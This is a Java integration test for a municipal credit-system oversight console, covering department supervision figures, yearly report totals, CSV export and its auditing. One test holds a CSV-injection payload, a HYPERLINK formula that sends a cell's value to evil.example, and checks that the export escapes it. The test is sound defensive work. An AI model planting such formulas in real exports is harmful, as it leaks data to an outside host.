package cn.chengxin.oversight;

import java.nio.charset.StandardCharsets;
import java.sql.Timestamp;
import java.time.Clock;
import java.time.LocalDate;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;
import java.util.concurrent.ThreadLocalRandom;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import cn.chengxin.account.Department;
import cn.chengxin.account.StaffDirectory;
import cn.chengxin.catalog.Catalogue;
import cn.chengxin.catalog.domain.Domain;
import cn.chengxin.catalog.domain.ItemDefinition;
import cn.chengxin.catalog.domain.UpdateCycle;
import cn.chengxin.shared.calendar.WorkingDays;
import cn.chengxin.shared.security.Permission;
import cn.chengxin.subject.SubjectRegistry;
import cn.chengxin.scoring.Scoring;
import cn.chengxin.subject.domain.DocumentType;
import cn.chengxin.subject.domain.OccupationalGroup;
import cn.chengxin.support.CatalogueVersions;
import cn.chengxin.support.IntegrationTest;
import cn.chengxin.support.Principals;
import cn.chengxin.support.TestCitizens;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.security.core.Authentication;
import org.springframework.security.core.authority.SimpleGrantedAuthority;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.request.MockHttpServletRequestBuilder;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.authentication;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.user;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.flash;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

/**
 * 部门督办 and the yearly progress report (RULES.md §12, issue #4), on rows as the owning modules store them: each
 * figure of a department's line, the silent provider listed with zeros, the report's totals, its CSV and its audit.
 * The data is dated 2019 (a year no other test uses) under department codes of this test only, and removed after.
 */
@IntegrationTest
class DepartmentSupervisionIT {

    private static final ZoneId CHINA = ZoneId.of("Asia/Shanghai");
    /** Monday 4 March 2019, an ordinary week. */
    private static final LocalDate DECIDED = LocalDate.of(2019, 3, 4);

    @Autowired
    MockMvc mvc;

    @Autowired
    JdbcClient jdbc;

    @Autowired
    StaffDirectory directory;

    @Autowired
    SubjectRegistry subjects;

    @Autowired
    ProgressReport reports;

    @Autowired
    ProgressFigures progressFigures;

    @Autowired
    Catalogue catalogue;

    @Autowired
    ItemDeliveries deliveries;

    @Autowired
    Clock clock;

    @Autowired
    WorkingDays workingDays;

    @Autowired
    DepartmentSupervision supervision;

    @Autowired
    Scoring scoring;

    private static final Authentication CALENDAR_MAKER = Principals.staff("supervision-calendar-maker",
            "CREDIT_OFFICE", Permission.CALENDAR_EDIT);
    private static final Authentication CALENDAR_CHECKER = Principals.staff("supervision-calendar-checker",
            "CREDIT_OFFICE", Permission.CALENDAR_EDIT);

    /** Items this test put in force, withdrawn after it. */
    private final List<String> items = new ArrayList<>();

    private String busy;
    private String silent;
    private UUID subject;

    @BeforeEach
    void departments() {
        int n = ThreadLocalRandom.current().nextInt(100_000, 1_000_000);
        busy = "SUPBUSY" + n;
        silent = "SUPSILENT" + n;
        directory.createDepartment(busy, "督办测试局" + n, Department.Kind.DATA_PROVIDER, List.of());
        directory.createDepartment(silent, "未报送督办测试局" + n, Department.Kind.DATA_PROVIDER, List.of());
        TestCitizens.Person p = TestCitizens.register(subjects, "督办测");
        subject = subjects.find(subjects.validate(DocumentType.RESIDENT_ID, p.number())).orElseThrow();
    }

    @AfterEach
    void remove() throws Exception {
        for (String code : items) {
            CatalogueVersions.withdraw(catalogue, code);
        }
        jdbc.sql("DELETE FROM creditfile.last_received WHERE department_code = ?").param(busy).update();
        jdbc.sql("DELETE FROM measures.check_lifted WHERE department_code = ?").param(busy).update();
        jdbc.sql("DELETE FROM objection.objection WHERE department_code = ?").param(silent).update();
        for (String table : List.of("ingestion.batch", "creditfile.record", "measures.check_made",
                "objection.objection", "repair.application")) {
            jdbc.sql("DELETE FROM " + table + " WHERE department_code = ?").param(busy).update();
        }
    }

    @Test
    void eachFigureOfADepartmentComesFromItsModuleAndASilentProviderIsListed() throws Exception {
        ProgressReport.Totals before = reports.of(2019).totals();
        deliver();

        String page = page("/console/supervision", "from", "2019-01-01", "to", "2019-12-31");
        assertThat(cells(page, busy)).containsExactly(
                "50", "45", "5", "10.0%",          // rows delivered, accepted, rejected, rejection rate
                "4", "7", "75%",                   // records, median days, stored within 5 working days
                "3", "2", "1", "1",                // checks made, checks owing feedback, returned, overdue
                "2", "1", "2", "100.0%", "1", "1", // objections decided, in time, upheld, share upheld (too
                                                   // few cases to flag); corrections owed, overdue
                "2", "1", "1",                     // repairs decided, in time, overdue now
                "0", "0");                         // lifts unacknowledged, overdue
        assertThat(row(page, "data-department=\"" + busy + "\"")).contains("督办测试局");
        assertThat(cells(page, silent)).as("a provider that delivered nothing is listed, with nothing")
                .containsExactly("0", "0", "0", "—", "0", "—", "—", "0", "0", "0", "0", "0", "0", "0", "—", "0", "0",
                        "0", "0", "0", "0", "0");
        assertThat(page).as("no personal data: neither the subject's name nor its number")
                .doesNotContain("督办测<", subject.toString());

        String march = page("/console/supervision", "from", "2019-03-11", "to", "2019-03-11");
        assertThat(cells(march, busy).subList(0, 7)).as("only what happened on the 11th: 2 records, nothing delivered")
                .containsExactly("0", "0", "0", "—", "2", "7", "100%");

        String english = page("/console/supervision", "from", "2019-01-01", "to", "2019-12-31", "lang", "en");
        assertThat(english).contains("Department supervision", "Stored within 5 working days")
                .doesNotContain("部门督办");
        assertThat(page("/console/supervision", "from", "2019-12-31", "to", "2019-01-01")).contains("统计期间有误");

        progressFigures.recount(2019); // the subjects with a file are kept figures (P2 rest)
        ProgressReport.Totals after = reports.of(2019).totals();
        assertThat(after.recordsCollected() - before.recordsCollected()).isEqualTo(4);
        assertThat(after.checks() - before.checks()).isEqualTo(3);
        assertThat(after.checksOwingFeedback() - before.checksOwingFeedback()).isEqualTo(2);
        assertThat(after.feedbackReturned() - before.feedbackReturned()).isEqualTo(1);
        assertThat(after.objectionsDecided() - before.objectionsDecided()).isEqualTo(2);
        assertThat(after.objectionsInTime() - before.objectionsInTime()).isEqualTo(1);
        assertThat(after.repairsDecided() - before.repairsDecided()).isEqualTo(2);
        assertThat(after.repairsInTime() - before.repairsInTime()).isEqualTo(1);
        assertThat(after.subjectsWithFile()).isGreaterThanOrEqualTo(1);
        assertThat(after.lists()).hasSize(3);
    }

    /**
     * The records a department was found to have wrong (L7 of gaps-review-xxx; 驻马店 四(二)): an objection decided in
     * the subject's favour — deleted, or an omission to be supplemented — counts as 异议成立 for the providing
     * department; one decided 维持原记录 or 停止公示 (the period over, the record not wrong) does not, though all are
     * decided. On the page and in the yearly report's CSV.
     */
    @Test
    void anObjectionUpheldCountsForItsProvidingDepartmentAndOneKeptDoesNot() throws Exception {
        LocalDate due = LocalDate.of(2019, 3, 12);
        objection(UUID.randomUUID(), due, LocalDate.of(2019, 3, 8), "DELETE");
        objection(null, due, LocalDate.of(2019, 3, 8), "SUPPLEMENT");
        objection(UUID.randomUUID(), due, LocalDate.of(2019, 3, 8), "UPHOLD");
        objection(UUID.randomUUID(), due, LocalDate.of(2019, 3, 8), "STOP_DISPLAY");
        // L7 leftover: the department revoked the contested record itself while the case was open — its record was
        // wrong as the subject said, so it counts; a copy's case ended with its origin does not (the origin's does).
        objection(UUID.randomUUID(), due, LocalDate.of(2019, 3, 8), "REVOKED_BY_DEPARTMENT");
        objection(UUID.randomUUID(), due, LocalDate.of(2019, 3, 8), "ENDED_WITH_ORIGIN");

        // The other department: 1 upheld of 5 decided is 20%, not above the threshold (finding L7 rest).
        for (String outcome : List.of("DELETE", "UPHOLD", "UPHOLD", "UPHOLD", "STOP_DISPLAY")) {
            objection(silent, UUID.randomUUID(), due, LocalDate.of(2019, 3, 8), outcome);
        }

        String page = page("/console/supervision", "from", "2019-01-01", "to", "2019-12-31");
        assertThat(cells(page, busy).subList(11, 15)).as("decided, in time, upheld, share upheld")
                .containsExactly("6", "6", "3", "50.0% 偏高");
        assertThat(row(page, "data-department=\"" + busy + "\"")).contains("data-field=\"objections-upheld\">3<",
                "data-flagged=\"true\"");
        assertThat(cells(page, silent).subList(11, 15)).containsExactly("5", "5", "1", "20.0%");
        assertThat(row(page, "data-department=\"" + silent + "\"")).contains("data-flagged=\"false\"");
        // Flagged above the table: more than 20% of at least 5 decided (the defaults the README states).
        String flagged = page.substring(page.indexOf("id=\"upheld-flagged\""));
        flagged = flagged.substring(0, flagged.indexOf("</p>"));
        assertThat(flagged).contains("data-flagged-department=\"" + busy + "\"").doesNotContain(silent);
        assertThat(page).contains("异议成立", "异议成立比例", "比例超过 20% 的单位标为“偏高”", "办结不少于 5 件");
        assertThat(page("/console/supervision", "from", "2019-01-01", "to", "2019-12-31", "lang", "en"))
                .contains("Objections upheld", "Share upheld", "50.0% high", "more than 20% of them upheld");
        assertThat(page("/console/supervision/report", "year", "2019")).contains("id=\"upheld-flagged\"",
                "50.0% 偏高");

        String csv = new String(mvc.perform(request("/console/supervision/report.csv", "year", "2019"))
                .andReturn().getResponse().getContentAsByteArray(), StandardCharsets.UTF_8);
        assertThat(csv).contains("异议按期办结,异议成立,异议成立比例,异议成立比例偏高,待报更正");
        assertThat(csv.lines().filter(l -> l.contains("," + busy + ",")).findFirst().orElseThrow())
                .contains(",6,6,3,50.0%,偏高,0,0,");
        assertThat(csv.lines().filter(l -> l.contains("," + silent + ",")).findFirst().orElseThrow())
                .contains(",5,5,1,20.0%,,0,0,");
    }

    @Test
    void theYearlyReportIsShownAndDownloadedAsCsvAndTheDownloadIsAudited() throws Exception {
        deliver();
        String report = page("/console/supervision/report", "year", "2019");
        assertThat(report).contains("年度信用工作进展报告", "全市合计", "归集信用记录", "严重失信主体名单：新列入",
                "report.csv?year=2019");
        assertThat(cells(report, busy).subList(0, 4)).containsExactly("50", "45", "5", "10.0%");

        long audited = audited();
        byte[] body = mvc.perform(request("/console/supervision/report.csv", "year", "2019"))
                .andExpect(status().isOk()).andReturn().getResponse().getContentAsByteArray();
        String csv = new String(body, StandardCharsets.UTF_8);
        assertThat(csv).startsWith("\uFEFF年度信用工作进展报告,2019");
        assertThat(csv.lines().filter(l -> l.contains("," + busy + ",")).findFirst().orElseThrow())
                .isEqualTo("督办测试局" + busy.substring(7) + "," + busy + ",50,45,5,10.0%,4,7,75,3,2,1,1,2,1,2,100.0%,,1,1,2,1,1,0,0");
        assertThat(audited()).as("the download is audited").isEqualTo(audited + 1);
        assertThat(jdbc.sql("SELECT detail FROM audit.event WHERE action = 'oversight.report' ORDER BY seq DESC "
                + "LIMIT 1").query(String.class).single()).isEqualTo("reason=OVERSIGHT_REPORT_EXPORTED; year=2019");

        String english = new String(mvc.perform(request("/console/supervision/report.csv", "year", "2019",
                "lang", "en")).andReturn().getResponse().getContentAsByteArray(), StandardCharsets.UTF_8);
        assertThat(english).contains("Yearly credit work progress report,2019", "Rejection rate");
    }

    /**
     * The figures the seeds ask the city to report (L7 of gaps-review-xxx): the year's records and the subjects they are
     * about by key domain (攀枝花 三(二)), each key occupational group's members and those with a file (黄石 二(二)),
     * and the score coverage against 70% (黄石 四(一)), on the page and in the CSV; counts only.
     */
    @Test
    void theYearlyReportCountsRecordsByDomainMembersByGroupAndTheScoreCoverage() throws Exception {
        progressFigures.recount(2019);
        ProgressReport.Totals before = reports.of(2019).totals();
        record(DECIDED, "ACTIVE", "P_TAX_ARREARS");
        record(DECIDED, "ACTIVE", "P_TAX_ARREARS");
        record(DECIDED, "ACTIVE");
        jdbc.sql("""
                        INSERT INTO subject.occupational_membership (person_id, occupational_group, valid_from)
                        VALUES (?, 'CIVIL_SERVANT', ?), (?, 'TEACHER', ?)""")
                .params(subject, DECIDED, subject, DECIDED.plusYears(100)).update();
        try {
            // Gaps review xxxv P2 rest: the distinct counts are kept, not made again at each view, until recounted.
            ProgressReport.Totals kept = reports.of(2019).totals();
            assertThat(kept.domains()).isEqualTo(before.domains());
            assertThat(kept.groups()).isEqualTo(before.groups());
            assertThat(kept.subjectsWithFile()).isEqualTo(before.subjectsWithFile());
            assertThat(kept.keptAsOf()).isEqualTo(before.keptAsOf());
            progressFigures.recount(2019);
            ProgressReport.Totals after = reports.of(2019).totals();
            assertThat(after.keptAsOf()).isAfterOrEqualTo(before.keptAsOf());
            ProgressReport.DomainFigure taxBefore = domain(before, Domain.TAX);
            ProgressReport.DomainFigure taxAfter = domain(after, Domain.TAX);
            assertThat(taxAfter.records() - taxBefore.records()).isEqualTo(2);
            assertThat(taxAfter.subjects() - taxBefore.subjects()).as("one person, two records").isEqualTo(1);
            assertThat(after.domains()).as("every key domain, zeros included").hasSize(Domain.values().length);
            ProgressReport.GroupFigure civilBefore = group(before, OccupationalGroup.CIVIL_SERVANT);
            ProgressReport.GroupFigure civilAfter = group(after, OccupationalGroup.CIVIL_SERVANT);
            assertThat(civilAfter.members() - civilBefore.members()).isEqualTo(1);
            assertThat(civilAfter.withFile() - civilBefore.withFile()).isEqualTo(1);
            assertThat(group(after, OccupationalGroup.TEACHER).members())
                    .as("a membership not yet begun does not count").isEqualTo(group(before, OccupationalGroup.TEACHER)
                            .members());
            assertThat(after.coverage()).isEqualTo(scoring.coverageTotal());

            String page = page("/console/supervision/report", "year", "2019");
            assertThat(page).contains("各重点领域信用记录", "重点职业人群信用档案", "信用分覆盖率（目标 ≥ 70%）",
                    "id=\"coverage-share\"");
            assertThat(page).contains("重点职业人群和信用分覆盖率截至 " + java.time.format.DateTimeFormatter
                    .ofPattern("yyyy-MM-dd HH:mm").format(after.keptAsOf().atZone(java.time.ZoneId.of("Asia/Shanghai"))));
            assertThat(cellsOf(page, "data-domain=\"TAX\"")).containsExactly(String.valueOf(taxAfter.records()),
                    String.valueOf(taxAfter.subjects()));
            assertThat(cellsOf(page, "data-group=\"CIVIL_SERVANT\"")).containsExactly(
                    String.valueOf(civilAfter.members()), String.valueOf(civilAfter.withFile()));
            assertThat(page).as("nobody named").doesNotContain("督办测<", subject.toString());

            String csv = new String(mvc.perform(request("/console/supervision/report.csv", "year", "2019"))
                    .andReturn().getResponse().getContentAsByteArray(), StandardCharsets.UTF_8);
            assertThat(csv.lines()).contains("税务," + taxAfter.records() + "," + taxAfter.subjects(),
                    "公务员," + civilAfter.members() + "," + civilAfter.withFile(),
                    "常住人口（登记在册）," + after.coverage().residents(),
                    "已评信用分人数," + after.coverage().scored());
            assertThat(csv).contains("信用分覆盖率（目标 ≥ 70%）");
        } finally {
            jdbc.sql("DELETE FROM subject.occupational_membership WHERE person_id = ?").param(subject).update();
        }
    }

    private static ProgressReport.DomainFigure domain(ProgressReport.Totals totals, Domain domain) {
        return totals.domains().stream().filter(d -> d.domain() == domain).findFirst().orElseThrow();
    }

    private static ProgressReport.GroupFigure group(ProgressReport.Totals totals, OccupationalGroup group) {
        return totals.groups().stream().filter(g -> g.group() == group).findFirst().orElseThrow();
    }

    /**
     * A department named or coded like a formula is written as text (CSV injection, OWASP): a spreadsheet opening the
     * report shows the name with a leading apostrophe and never runs it.
     */
    @Test
    void aDepartmentNamedLikeAFormulaIsWrittenAsTextInTheCsv() throws Exception {
        int n = ThreadLocalRandom.current().nextInt(100_000, 1_000_000);
        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")" + n;
        directory.createDepartment("-SUPFX" + n, formula, Department.Kind.DATA_PROVIDER, List.of());
        directory.createDepartment("SUPAT" + n, "@SUM(1+1)" + n, Department.Kind.DATA_PROVIDER, List.of());

        String csv = new String(mvc.perform(request("/console/supervision/report.csv", "year", "2019"))
                .andExpect(status().isOk()).andReturn().getResponse().getContentAsByteArray(), StandardCharsets.UTF_8);
        List<List<String>> rows = org.apache.commons.csv.CSVParser.parse(csv.substring(1),
                org.apache.commons.csv.CSVFormat.DEFAULT).getRecords().stream().map(r -> r.toList()).toList();
        assertThat(rows).filteredOn(r -> r.size() > 1 && r.get(1).endsWith("SUPFX" + n)).singleElement()
                .satisfies(r -> assertThat(r.subList(0, 2)).containsExactly("'" + formula, "'-SUPFX" + n));
        assertThat(rows).filteredOn(r -> r.size() > 1 && r.get(1).equals("SUPAT" + n)).singleElement()
                .satisfies(r -> assertThat(r.get(0)).isEqualTo("'@SUM(1+1)" + n));
        assertThat(rows).as("no cell of the report starts a formula").allSatisfy(r -> assertThat(r)
                .noneMatch(cell -> !cell.isEmpty() && "=+@\t\r".indexOf(cell.charAt(0)) >= 0));
    }

    /**
     * Finding H10: silence is seen item by item. A daily item the department last delivered 40 days ago is overdue on
     * 部门督办 and counts on 工作台, while another it delivered today is in time and one its silent neighbour was named
     * for today is not yet overdue. A responding unit that never checked has its line, with 0 checks.
     */
    @Test
    void aDailyItemSilentForFortyDaysIsOverdueAndAUnitWithoutChecksHasALine() throws Exception {
        LocalDate today = LocalDate.now(clock);
        String stopped = newDailyItem("SUPSTOP", busy);
        String going = newDailyItem("SUPGOING", busy);
        String named = newDailyItem("SUPNAMED", silent);
        long overdueBefore = deliveries.overdue();
        record(today.minusDays(40), "ACTIVE", stopped);
        record(today, "ACTIVE", going);
        String unit = "SUPRESP" + busy.substring(7);
        directory.createDepartment(unit, "未核查实施单位" + busy.substring(7), Department.Kind.RESPONDING_UNIT, List.of());

        String page = page("/console/supervision", "from", today.withDayOfYear(1).toString(), "to", today.toString());
        assertThat(delivery(page, busy, stopped)).contains(today.minusDays(40).toString(), "逾期未报送");
        assertThat(delivery(page, busy, going)).contains(today.toString(), "按期").doesNotContain("逾期未报送");
        assertThat(delivery(page, silent, named)).contains("从未报送").doesNotContain("逾期未报送");
        assertThat(deliveries.overdue()).as("only the stopped item became overdue").isEqualTo(overdueBefore + 1);
        assertThat(cells(page, unit)).as("a responding unit without checks is listed, with 0 checks")
                .containsExactly("0", "0", "0", "—", "0", "—", "—", "0", "0", "0", "0", "0", "0", "0", "—", "0", "0",
                        "0", "0", "0", "0", "0");
        assertThat(row(page, "data-department=\"" + unit + "\"")).contains("未核查实施单位");

        String english = page("/console/supervision", "lang", "en");
        assertThat(delivery(english, busy, stopped)).contains("Overdue (since");
        assertThat(page("/console")).contains("逾期未报送的信息事项 " + deliveries.overdue() + " 个");
        assertThat(mvc.perform(get("/console").with(user("clerk").authorities(new SimpleGrantedAuthority("STAFF"),
                        new SimpleGrantedAuthority("console:home")))).andReturn().getResponse().getContentAsString())
                .as("only for whoever supervises the departments").doesNotContain("逾期未报送的信息事项");
    }

    /**
     * A holiday approved (as a correction) for a past month after its deliveries leaves that month's timeliness as it
     * was reported (H9 of gaps-review-xxv): the delay is counted with the calendar as known when its count began.
     */
    @Test
    void aHolidayApprovedLaterForAPastMonthLeavesThatMonthsTimelinessUnchanged() throws Exception {
        record(DECIDED.plusDays(8), "ACTIVE"); // Tuesday 12 March: the 6th working day after the decision, late
        LocalDate friday = DECIDED.plusDays(4);
        String[] march = {"from", "2019-03-01", "to", "2019-03-31"};
        assertThat(cells(page("/console/supervision", march), busy).subList(4, 7)).containsExactly("1", "8", "0%");
        try {
            mvc.perform(post("/console/calendar").with(authentication(CALENDAR_MAKER)).with(csrf())
                    .param("day", friday.toString()).param("kind", "HOLIDAY").param("holiday", "测试假日")
                    .param("source", "测试通知").param("reason", "补录漏录的假日"))
                    .andExpect(flash().attribute("successKey", "calendar.proposed"));
            UUID proposal = jdbc.sql("SELECT id FROM shared.calendar_proposal WHERE first_day = ? AND status = 'PENDING'")
                    .param(friday).query(UUID.class).single();
            mvc.perform(post("/console/calendar/proposals/" + proposal + "/approve")
                    .with(authentication(CALENDAR_CHECKER)).with(csrf()))
                    .andExpect(flash().attribute("successKey", "calendar.approved"));
            assertThat(workingDays.calendar().workingDaysBetween(DECIDED, DECIDED.plusDays(8)))
                    .as("by today's calendar the delivery would be in time").isEqualTo(5);

            assertThat(cells(page("/console/supervision", march), busy).subList(4, 7))
                    .as("the month's figures as they were reported").containsExactly("1", "8", "0%");
        } finally {
            workingDays.clear(friday);
            jdbc.sql("DELETE FROM shared.calendar_day_change WHERE day = ?").param(friday).update();
            jdbc.sql("DELETE FROM shared.calendar_proposal WHERE first_day = ?").param(friday).update();
        }
    }

    /**
     * H3: a department's lifts of measures at exit that it has not acknowledged are counted on 部门督办, today whatever
     * the period, and so are those left unacknowledged beyond 3 working days (also on 工作台 and in the CSV); an
     * acknowledged lift counts in neither.
     */
    @Test
    void liftsNotAcknowledgedAreCountedAndThoseBeyondThreeWorkingDaysAreOverdue() throws Exception {
        long overdueBefore = supervision.liftsOverdue();
        java.time.Instant now = clock.instant();
        lifted(now, false);
        lifted(now.minus(java.time.Duration.ofDays(14)), false);
        lifted(now.minus(java.time.Duration.ofDays(14)), true);

        String page = page("/console/supervision", "from", "2019-01-01", "to", "2019-12-31");
        assertThat(cells(page, busy).subList(20, 22)).as("unacknowledged, of which overdue")
                .containsExactly("2", "1");
        assertThat(cells(page, silent).subList(20, 22)).containsExactly("0", "0");
        assertThat(page).contains("措施解除", "待确认解除", "超过 3 个工作日仍未确认");
        assertThat(supervision.liftsOverdue()).isEqualTo(overdueBefore + 1);
        assertThat(page("/console")).contains("超期未确认的措施解除 " + supervision.liftsOverdue() + " 条");
        assertThat(page("/console", "lang", "en")).contains("lifted measures not acknowledged in time");

        String csv = new String(mvc.perform(request("/console/supervision/report.csv", "year", "2019"))
                .andExpect(status().isOk()).andReturn().getResponse().getContentAsByteArray(), StandardCharsets.UTF_8);
        assertThat(csv).contains(",待确认解除,超期未确认");
        assertThat(csv.lines().filter(l -> l.contains("," + busy + ",")).findFirst().orElseThrow()).endsWith(",2,1");
    }

    /** A check of {@code busy} whose measures were lifted at {@code at}, acknowledged or not. */
    private void lifted(java.time.Instant at, boolean acknowledged) {
        UUID check = UUID.randomUUID();
        jdbc.sql("""
                        INSERT INTO measures.check_made (id, at, client_id, department_code, subject_pseudonym,
                               scenario, purpose, entries, measure_codes, owed_codes, feedback_due)
                        VALUES (?, ?, 'supervision-test', ?, NULL, 'TRAVEL', '测试', 1, '{NO_FLIGHTS_TRAINS}',
                                '{NO_FLIGHTS_TRAINS}', true)""")
                .params(check, java.sql.Timestamp.from(at.minus(java.time.Duration.ofDays(30))), busy).update();
        jdbc.sql("""
                        INSERT INTO measures.check_lifted (check_id, department_code, measure_codes, ended_on,
                               lifted_at, acknowledged_at, acknowledged_by)
                        VALUES (?, ?, '{NO_FLIGHTS_TRAINS}', ?, ?, ?, ?)""")
                .params(check, busy, LocalDate.ofInstant(at, CHINA), java.sql.Timestamp.from(at),
                        acknowledged ? java.sql.Timestamp.from(at) : null, acknowledged ? "clerk" : null).update();
    }

    /** A new daily item in force, provided by {@code department} alone. */
    private String newDailyItem(String prefix, String department) throws Exception {
        ItemDefinition base = catalogue.active("P_ADMIN_PENALTY_GENERAL").orElseThrow().definition();
        String code = prefix + UUID.randomUUID().toString().substring(0, 8).toUpperCase();
        CatalogueVersions.draft(catalogue, new ItemDefinition(code, "督办测试事项" + code, base.subjectType(),
                base.nature(), base.category(), base.domain(), base.fields(), List.of(department), base.legalBasis(),
                base.sharing(), base.severity(), base.publicationMinMonths(), base.publicationMaxMonths(),
                base.retentionYears(), base.usableForPunishment(), base.usableForScoring(), base.sharedUpward(),
                UpdateCycle.DAILY, false, null));
        CatalogueVersions.submit(catalogue, code);
        CatalogueVersions.approve(catalogue, code);
        items.add(code);
        return code;
    }

    private static String delivery(String page, String department, String item) {
        int at = page.indexOf("data-provider=\"" + department + "\" data-item=\"" + item + "\"");
        assertThat(at).as(department + " " + item + " listed").isPositive();
        return page.substring(at, page.indexOf("</tr>", at));
    }

    /** What the modules store for {@code busy} in March 2019. */
    private void deliver() {
        jdbc.sql("""
                        INSERT INTO ingestion.batch (id, department_code, submitted_by, channel, content_hash, status,
                               total_rows, rows_done, accepted, rejected, started_at, finished_at)
                        VALUES (?, ?, 'supervision-test', 'API', ?, 'DONE', 50, 50, 45, 5, ?, ?)""")
                .params(UUID.randomUUID(), busy, UUID.randomUUID().toString(), at(DECIDED.plusDays(1)),
                        at(DECIDED.plusDays(1))).update();
        // Received the day of the decision, twice on the 5th working day after it, once on the 6th.
        UUID disputed = record(DECIDED, "IN_DISPUTE");
        UUID corrected = record(DECIDED.plusDays(7), "ACTIVE");
        record(DECIDED.plusDays(7), "ACTIVE");
        record(DECIDED.plusDays(8), "ACTIVE");
        check(new String[] {"NO_FLIGHTS_TRAINS"}, false);  // feedback returned
        check(new String[] {"NO_FLIGHTS_TRAINS"}, true);   // still owed, for years: overdue
        check(new String[] {}, false);                     // nothing owed
        // Decided in time, 更正: its record is still 异议中, so the correction is owed (and long overdue).
        objection(disputed, LocalDate.of(2019, 3, 12), LocalDate.of(2019, 3, 10), "CORRECT");
        // Decided late, 更正 too, but the corrected version came: nothing owed.
        objection(corrected, LocalDate.of(2019, 3, 15), LocalDate.of(2019, 3, 20), "CORRECT");
        repair("APPROVED", LocalDate.of(2019, 3, 15), null, LocalDate.of(2019, 3, 8));
        repair("REFUSED", LocalDate.of(2019, 3, 15), LocalDate.of(2019, 3, 18), LocalDate.of(2019, 3, 20));
        repair("APPLIED", LocalDate.of(2019, 4, 1), null, null);
    }

    private UUID record(LocalDate received, String status) {
        return record(received, status, "P_ADMIN_PENALTY_GENERAL");
    }

    private UUID record(LocalDate received, String status, String item) {
        UUID key = UUID.randomUUID();
        jdbc.sql("""
                        INSERT INTO creditfile.record (id, record_key, version, current, subject_id, item_code,
                               item_version, department_code, source_record_id, action, decision_number, decision_date,
                               content, fingerprint, status, publication_end, retention_end, batch_id, accepted_at,
                               accepted_by)
                        VALUES (?, ?, 1, true, ?, ?, 1, ?, ?, 'ADD', '督办测罚〔2019〕1号', ?,
                                '{}', ?, ?, ?, ?, ?, ?, 'supervision-test')""")
                .params(UUID.randomUUID(), key, subject, item, busy, key.toString(), DECIDED, key.toString(), status,
                        DECIDED.plusYears(1), DECIDED.plusYears(5), UUID.randomUUID(), at(received)).update();
        return key;
    }

    private void check(String[] owed, boolean due) {
        jdbc.sql("""
                        INSERT INTO measures.check_made (id, at, client_id, department_code, subject_pseudonym,
                               scenario, purpose, entries, measure_codes, owed_codes, feedback_due)
                        VALUES (?, ?, 'supervision-test', ?, NULL, 'TRAVEL', '测试', ?, ?, ?, ?)""")
                .params(UUID.randomUUID(), at(DECIDED.plusDays(1)), busy, owed.length, owed, owed, due).update();
    }

    /** A decided objection to the record {@code recordKey}, or to a record missing (信息遗漏) when it is null. */
    private void objection(UUID recordKey, LocalDate due, LocalDate decided, String outcome) {
        objection(busy, recordKey, due, decided, outcome);
    }

    /** As {@link #objection(UUID, LocalDate, LocalDate, String)}, about a record of {@code department}. */
    private void objection(String department, UUID recordKey, LocalDate due, LocalDate decided, String outcome) {
        jdbc.sql("""
                        INSERT INTO objection.objection (id, subject_id, record_key, omission_missing, item_code,
                               department_code, reasons, filed_by, filed_at, status, due_on, received_on, outcome,
                               outcome_reasons, decided_by, decided_at)
                        VALUES (?, ?, ?, ?, 'P_ADMIN_PENALTY_GENERAL', ?, '测试', 'supervision-test', ?, 'DECIDED', ?,
                                ?, ?, '测试', 'supervision-test', ?)""")
                .params(UUID.randomUUID(), subject, recordKey, recordKey == null ? "督办测试遗漏的处罚" : null,
                        department, at(DECIDED.plusDays(5)), due, DECIDED.plusDays(5), outcome, at(decided)).update();
    }

    private void repair(String status, LocalDate feedbackDue, LocalDate decisionDue, LocalDate decided) {
        jdbc.sql("""
                        INSERT INTO repair.application (id, subject_id, record_key, item_code, department_code,
                               performance, commitment_id, filed_by, filed_at, status, feedback_due, decision_due,
                               decided_by, decided_at)
                        VALUES (?, ?, ?, 'P_ADMIN_PENALTY_GENERAL', ?, '已履行', ?, 'supervision-test', ?, ?, ?, ?, ?, ?)""")
                .params(UUID.randomUUID(), subject, UUID.randomUUID(), busy, UUID.randomUUID(), at(DECIDED),
                        status, feedbackDue, decisionDue, decided == null ? null : "supervision-test",
                        decided == null ? null : at(decided)).update();
    }

    private static Timestamp at(LocalDate day) {
        return Timestamp.from(day.atTime(10, 0).atZone(CHINA).toInstant());
    }

    private long audited() {
        return jdbc.sql("SELECT count(*) FROM audit.event WHERE action = 'oversight.report'").query(Long.class)
                .single();
    }

    private MockHttpServletRequestBuilder request(String path, String... params) {
        MockHttpServletRequestBuilder request = get(path);
        for (int i = 0; i < params.length; i += 2) {
            request = request.param(params[i], params[i + 1]);
        }
        return request.with(user("office").authorities(new SimpleGrantedAuthority("STAFF"),
                new SimpleGrantedAuthority("console:home"), new SimpleGrantedAuthority("oversight:supervise")));
    }

    private String page(String path, String... params) throws Exception {
        return mvc.perform(request(path, params)).andExpect(status().isOk()).andReturn().getResponse()
                .getContentAsString();
    }

    private static String row(String page, String marker) {
        int at = page.indexOf(marker);
        assertThat(at).as(marker + " listed").isPositive();
        return page.substring(at, page.indexOf("</tr>", at));
    }

    /** The figures of a department's line, in order. */
    private static List<String> cells(String page, String department) {
        return cellsOf(page, "data-department=\"" + department + "\"");
    }

    /** The figures of the line marked {@code marker}, in order. */
    private static List<String> cellsOf(String page, String marker) {
        List<String> cells = new ArrayList<>();
        Matcher td = Pattern.compile("<td[^>]*>([^<]*)</td>").matcher(row(page, marker));
        while (td.find()) {
            cells.add(td.group(1).strip());
        }
        return cells;
    }
}
